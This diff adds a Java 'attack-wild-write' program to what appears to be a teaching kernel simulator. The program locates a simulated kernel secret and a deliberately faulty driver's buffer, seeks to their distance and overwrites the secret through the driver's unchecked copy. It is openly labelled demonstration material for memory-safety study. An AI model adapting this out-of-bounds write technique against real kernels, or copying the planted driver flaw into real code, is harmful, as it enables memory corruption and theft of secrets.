@@ -1,0 +1,64 @@
+package mpkernel.user.programs;
+
+import java.lang.foreign.MemorySegment;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+
+import mpkernel.kernel.api.Sys;
+import mpkernel.kernel.api.UserProgram;
+
+/**
+ * {@code attack-wild-write}: drives the unsafe kernel's planted bug. It reads where the kernel
+ * secret and the {@code /dev/faulty} driver buffer lie from {@code /proc/layout}, seeks the
+ * device to their distance and writes: the driver's unchecked copy lands on the safe kernel's
+ * secret. The program itself uses only system calls; the wild write is the unsafe kernel's.
+ */
+public final class AttackWildWrite implements UserProgram {
+
+    /** What the attack writes over the secret. */
+    static final String PAYLOAD = "PWNED-BY-A-WILD-DRIVER-WRITE!!!!";
+
+    @Override
+    public String name() {
+        return "attack-wild-write";
+    }
+
+    @Override
+    public String description() {
+        return "ATTACK: make the unsafe kernel's faulty driver write past its buffer into the kernel secret";
+    }
+
+    @Override
+    public int main(Sys sys, List<String> args) {
+        MemorySegment buf = sys.malloc(4096);
+        try {
+            int fd = sys.open("/proc/layout", Sys.O_RDONLY);
+            long n = sys.read(fd, buf);
+            sys.close(fd);
+            long secret = -1;
+            long driverBuffer = -1;
+            for (String line : new String(buf.asSlice(0, n).toArray(java.lang.foreign.ValueLayout.JAVA_BYTE),
+                    StandardCharsets.UTF_8).split("\n")) {
+                String[] f = line.split(" ");
+                if (f[0].equals("secret")) {
+                    secret = Long.parseUnsignedLong(f[1].substring(2), 16);
+                } else if (f[0].equals("faulty-buffer")) {
+                    driverBuffer = Long.parseUnsignedLong(f[1].substring(2), 16);
+                }
+            }
+            byte[] payload = PAYLOAD.getBytes(StandardCharsets.US_ASCII);
+            MemorySegment.copy(MemorySegment.ofArray(payload), 0, buf, 0, payload.length);
+            long offset = secret - driverBuffer;
+            sys.write(Sys.STDOUT, String.format("attack-wild-write: /dev/faulty buffer at 0x%x, kernel secret at 0x%x, seeking %d%n",
+                    driverBuffer, secret, offset));
+            int dev = sys.open("/dev/faulty", Sys.O_WRONLY);
+            sys.lseek(dev, offset, Sys.SEEK_SET);
+            long written = sys.write(dev, buf.asSlice(0, payload.length));
+            sys.close(dev);
+            sys.write(Sys.STDOUT, "attack-wild-write: the driver wrote " + written + " bytes over the kernel secret\n");
+            return 0;
+        } finally {
+            sys.free(buf);
+        }
+    }
+}
